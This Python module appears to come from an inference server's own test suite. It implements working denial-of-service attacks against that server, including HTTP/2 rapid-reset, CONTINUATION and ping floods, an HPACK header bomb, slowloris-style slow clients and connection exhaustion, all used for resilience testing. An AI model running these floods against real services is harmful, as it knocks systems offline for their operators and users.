# SPDX-FileCopyrightText: The pyruntime authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks by number and by patience: floods of frames, many clients, slow ones, and those that leave."""

import resource
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from functools import partial

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from . import http2, messages
from .bombs import plain
from .clients import Target, at_once

INFER = http2.SERVICE + "ModelInfer"
# All but the last of these bytes are sent by a slow client.
KNOWN = b'{"inputs":[{"name":"IN","datatype":"INT64","shape":[1],"data":[1]}]}'


def _frames(piece: bytes, count: int, opening: bytes = http2.OPENING):
    yield opening
    for _ in range(count):
        yield piece


def pings(target: Target) -> None:
    """Each ping requires an answer, which the client does not read."""
    target.flood(target.server.grpc_port, _frames(PingFrame(0, b"12345678").serialize() * 1000, 1000))


def settings(target: Target) -> None:
    """The same, and each changes the session."""
    target.flood(target.server.grpc_port, _frames(SettingsFrame(0, settings={1: 0, 3: 9}).serialize() * 1000, 500))


def many_settings(target: Target) -> None:
    """Very many of them in one frame."""
    frame = SettingsFrame(0, settings={number: 1 for number in range(10, 2700)}).serialize()
    target.flood(target.server.grpc_port, _frames(frame, 60))


def continuations(target: Target) -> None:
    """A head that does not end."""
    opening = http2.OPENING + HeadersFrame(1, b"\x82").serialize()
    piece = ContinuationFrame(1, b"\x00\x01a\x7f\x80\x01" + b"b" * 255).serialize() * 100
    target.flood(target.server.grpc_port, _frames(piece, 300, opening))


def empty_continuations(target: Target) -> None:
    """The same with nothing in it."""
    opening = http2.OPENING + HeadersFrame(1, b"\x82").serialize()
    target.flood(target.server.grpc_port, _frames(ContinuationFrame(1, b"").serialize() * 1000, 300, opening))


def empty_data(target: Target) -> None:
    """Frames of data without data, in a call that does not end."""
    opening = http2.OPENING + http2.head(1, INFER)
    target.flood(target.server.grpc_port, _frames(DataFrame(1, b"").serialize() * 1000, 300, opening))


def resets(target: Target) -> None:
    """Calls that are begun and taken back at once."""
    head = http2.head_of(INFER)
    frames = (
        HeadersFrame(stream, head, flags=["END_HEADERS"]).serialize() + RstStreamFrame(stream, 8).serialize()
        for stream in range(1, 60_001, 2)
    )
    target.flood(target.server.grpc_port, [http2.OPENING, *frames])


def resets_by_error(target: Target) -> None:
    """Calls that the server has to take back, because of the client's errors."""
    head = http2.head_of(INFER)
    frames = (
        HeadersFrame(stream, head, flags=["END_HEADERS"]).serialize() + WindowUpdateFrame(stream, 0).serialize()
        for stream in range(1, 40_001, 2)
    )
    with suppress(ValueError):
        target.flood(target.server.grpc_port, [http2.OPENING, *frames])


def header_bomb(target: Target) -> None:
    """A long header that is put into the table once, and then named in one byte each."""
    encoder = hpack.Encoder()
    first = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", "/x"), ("a", "b" * 3900)])
    bomb = first + b"\xbe" * 16_000
    opening = http2.OPENING + HeadersFrame(1, bomb[:16_000], flags=["END_STREAM"]).serialize()
    again = HeadersFrame(3, b"\x83\x86\x84" + b"\xbe" * 16_000, flags=["END_HEADERS", "END_STREAM"]).serialize()
    rest = ContinuationFrame(1, bomb[16_000:], flags=["END_HEADERS"]).serialize()
    target.flood(target.server.grpc_port, [opening, rest, again])


def windows_of_one_byte(target: Target) -> None:
    """Answers go out a byte at a time, as the client opens its windows."""
    opening = http2.PREFACE + SettingsFrame(0, settings={4: 0}).serialize()
    calls = [http2.head(stream, "/x", ended=True) for stream in range(1, 401, 2)]
    calls += [
        http2.head(stream, INFER) + http2.data(stream, http2.framed(http2.REQUEST), ended=True)
        for stream in range(401, 801, 2)
    ]
    updates = [WindowUpdateFrame(stream, 1).serialize() for _ in range(20) for stream in range(401, 801, 2)]
    target.bytes_to(target.server.grpc_port, b"".join([opening, *calls, *updates]))


def messages_announced(target: Target) -> None:
    """Of 2 GiB each, of which a few bytes come."""
    calls = [
        http2.head(stream, INFER) + http2.data(stream, http2.framed(http2.REQUEST[:-3], length=(1 << 31) - 1))
        for stream in range(1, 801, 2)
    ]
    target.flood(target.server.grpc_port, [http2.OPENING, *calls])


def bodies_announced(target: Target) -> None:
    """Of 64 MB each, of which a few bytes come, binary and JSON."""
    with ExitStack() as stack:
        for number in range(300):
            sock = stack.enter_context(target.connect())
            extra = b"Inference-Header-Content-Length: 60\r\n" if number % 2 else b""
            head = b"POST /v2/models/numbers/infer HTTP/1.1\r\nHost: x\r\n%bContent-Length: 64000000\r\n\r\n" % extra
            sock.sendall(head + KNOWN)
            target.count(len(head + KNOWN))
        target.server.settle()


def tensors_announced(target: Target) -> None:
    """Raw contents of gRPC of almost 16 MiB each, of which a few bytes come."""
    contents = messages.infer(*messages.tensor(shape=messages.varint(2_000_000)), *messages.field(messages.RAWS))
    size = (16 << 20) - 100
    message = plain(*contents)[:-1] + messages.varint(size - 100) + b"12345678"
    calls = [http2.head(stream, INFER) for stream in range(1, 801, 2)]
    begun = [http2.data(stream, http2.framed(message, length=size)) for stream in range(1, 801, 2)]
    with target.connect(target.server.grpc_port) as sock:
        for stream, frames in [(801, [http2.OPENING, *calls]), (803, begun)]:
            data = b"".join([*frames, http2.last_call(stream)])
            sock.sendall(data)
            target.count(len(data))
            http2.read_to_end(sock, stream)


def heads_of_one_byte(target: Target) -> None:
    """Many clients that send their heads a byte at a time."""
    request = target.post("/v2/models/numbers/infer", KNOWN)
    with ExitStack() as stack:
        socks = [stack.enter_context(target.connect()) for _ in range(300)]
        for at in range(len(request) - 1):
            for sock in socks:
                sock.sendall(request[at : at + 1])
        target.count(300 * len(request))
        target.server.settle()


def chunks_of_one_byte(target: Target) -> None:
    """A body in 100 000 chunks."""
    head = b"POST /v2/models/numbers/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in KNOWN) + b"1\r\n \r\n" * 100_000
    target.http(head + chunks + b"0\r\n\r\n")


def pipelined(target: Target) -> None:
    """Thousands of requests on one connection, in one piece."""
    target.http(*[target.post("/v2/models/numbers/infer", KNOWN)] * 5000)


def clients_that_leave(target: Target) -> None:
    """A request each, and the connection is reset."""
    request = target.post("/v2/models/numbers/infer", KNOWN)
    at_once(20, lambda _: [target.hang_up(request) for _ in range(30)])


def streams_that_nobody_reads(target: Target) -> None:
    """A decoupled model is asked for a million responses by clients that leave or take nothing."""
    body = b'{"IN":[1000000]}'
    request = target.post("/v2/models/steps/generate_stream", body)
    with ExitStack() as stack:
        for _ in range(10):
            sock = stack.enter_context(target.connect())
            sock.sendall(request)
            target.count(len(request))
        for _ in range(10):
            target.hang_up(request)
        target.server.settle()


def connections(target: Target) -> None:
    """A thousand that say nothing, to each port."""
    with ExitStack() as stack, suppress(ConnectionError):
        for _ in range(500):
            for port in (target.server.port, target.server.grpc_port):
                stack.enter_context(target.connect(port))
        target.server.settle()


@contextmanager
def _many_descriptors() -> Iterator[None]:
    """Let this process open as many as the system allows."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    yield
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def crowd(count: int, request: bytes, target: Target, opening: bytes = b"") -> None:
    """Many clients that have sent nothing, or the opening of HTTP/2, and then send a request each, all at once."""
    port = target.server.grpc_port if opening else target.server.port
    with _many_descriptors(), ExitStack() as stack:
        socks = [stack.enter_context(target.connect(port)) for _ in range(count)]
        for sock in socks:
            sock.sendall(opening)
        target.server.settle()
        for sock in socks:
            sock.sendall(request)
        target.count(count * len(request))
        for sock in socks:
            assert sock.recv(1)


def _crowds(count: int) -> dict[str, partial[None]]:
    refused = b"POST /v2/models/numbers/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
    call = http2.head(1, INFER) + http2.data(1, http2.framed(b""), ended=True)
    return {
        f"{count} clients, an inference each": partial(crowd, count, refused),
        f"{count} clients, a malformed request each": partial(crowd, count, b"x\r\n\r\n"),
        f"{count} clients of gRPC, a call each": partial(crowd, count, call, opening=http2.OPENING),
    }


# The attacks by crowds, for tests beside others, and those of as many clients as 1 MB allows.
CROWDS, LARGE_CROWDS = _crowds(400), _crowds(7000)
FLOODS = {
    "HTTP/2: pings": pings,
    "HTTP/2: settings": settings,
    "HTTP/2: settings in one frame": many_settings,
    "HTTP/2: continuations": continuations,
    "HTTP/2: empty continuations": empty_continuations,
    "HTTP/2: empty data": empty_data,
    "HTTP/2: rapid resets": resets,
    "HTTP/2: resets by errors": resets_by_error,
    "HTTP/2: header bomb": header_bomb,
    "HTTP/2: windows of one byte": windows_of_one_byte,
    "gRPC: messages announced": messages_announced,
    "gRPC: tensors announced": tensors_announced,
    "HTTP: bodies announced": bodies_announced,
    "HTTP: heads byte by byte": heads_of_one_byte,
    "HTTP: chunks of one byte": chunks_of_one_byte,
    "HTTP: 5000 pipelined": pipelined,
    "HTTP: clients that leave": clients_that_leave,
    "streams that nobody reads": streams_that_nobody_reads,
    "idle connections": connections,
    **CROWDS,
}
